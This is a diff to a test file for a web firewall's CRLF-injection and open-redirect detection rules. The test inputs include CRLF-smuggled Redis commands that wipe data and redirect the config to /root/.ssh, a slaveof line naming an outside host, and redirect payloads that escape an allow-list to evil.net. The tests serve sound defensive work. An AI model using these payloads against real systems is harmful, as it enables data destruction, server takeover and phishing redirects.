@@ -101,6 +101,9 @@ describe('CRLF injection', () => {
     expect(idsOf('\r\n', 'cookie', 'pref')).toContain(920103);
     expect(idsOf('%0%0d%0ad%0%0d%0aa', 'query')).toContain(920103);
     expect(idsOf('/a\r\nb', 'path', '')).toContain(920103);
+    // a Redis command on the line after an id the application writes in the inline protocol
+    expect(idsOf('hub-1\r\nFLUSHALL\r\nCONFIG SET dir /root/.ssh\r\n', 'query', 'device')).toContain(920107);
+    expect(idsOf('sess-9\nslaveof 203.0.113.9 6379', 'cookie', 'sid')).toContain(920107);
   });
 
   it('reads no injection in a body with its own lines, typed text or whitespace', () => {
@@ -109,6 +112,7 @@ describe('CRLF injection', () => {
     expect(classesOf('Dear team,\r\nthanks.\r\nBest', 'body_form', 'message').has('CrlfInjection')).toBe(false);
     expect(classesOf('Address: 1 Main St\nCity: Springfield', 'query', 'note').has('CrlfInjection')).toBe(false);
     expect(classesOf('\n      \n   ', 'query', 'cd[text]').has('CrlfInjection')).toBe(false);
+    expect(classesOf('Cache notes\nflushall clears every database, so we never run it', 'body_form', 'notes').has('CrlfInjection')).toBe(false);
   });
 });
 
@@ -311,6 +315,12 @@ describe('XXE, SSTI, session fixation and open redirect', () => {
     expect(redirect('/logout?returnUrl=https%3A%2F%2Fxn--pypal-4ve.com%2Fsignin')).toEqual(['510108:returnUrl']);
     // One script per label, Latin and Cyrillic side by side: an ordinary Russian shop.
     expect(redirect('/out?url=https%3A%2F%2Fshop.xn--80aswg.xn--p1ai%2F')).toEqual([]);
+    // A parent step in the target's path climbs out of the prefix an allow-list checks, on this site too.
+    expect(
+      redirect('/oauth/authorize?redirect_uri=https%3A%2F%2Fapp.example.com%2Fcallback%2F..%2Fredirect%3Furl%3Dhttps%3A%2F%2Fevil.net', 'login.example.com'),
+    ).toEqual(['510109:redirect_uri']);
+    expect(redirect('/login?next=/account/..%2F..%2Fadmin')).toEqual(['510109:next']);
+    expect(redirect('/login?next=/account/settings%3Fback%3D..%2Fcart')).toEqual([]);
     expect(redirect('/auth?redirect_uri=https%3A%2F%2Fapp.saasly.io%2Fcb%3Fnext%3D%252Fhome', 'sso.example.com')).toEqual([]);
     // Everyday redirects: this site, another site's plain URL, an OAuth chain naming this site in its query, an archive link.
     expect(redirect('/login?next=https://www.example.com/account')).toEqual([]);
@@ -329,7 +339,7 @@ describe('XXE, SSTI, session fixation and open redirect', () => {
     expect(redirect('/sync?url=//x.bidswitch.net/sync?dsp_id=59')).toEqual([]);
     // A protocol-relative URL with an empty or parent segment after its host; an XPath is no such URL.
     expect(redirect('/out?u=//evil.net//account')).toEqual(['510102:u']);
-    expect(redirect('/out?u=//[2001:db8::1]/../x')).toEqual(['510102:u']);
+    expect(redirect('/out?u=//[2001:db8::1]/../x')).toEqual(['510109:u', '510102:u']);
     expect(redirect("/scrape?selector=//div[@class='product']//h2/text()")).toEqual([]);
     // A slash and a backslash before a host; before a word it is an escaped slash of a search syntax.
     expect(redirect('/out?u=%5C%2Fevil.com')).toEqual(['510101:u']);
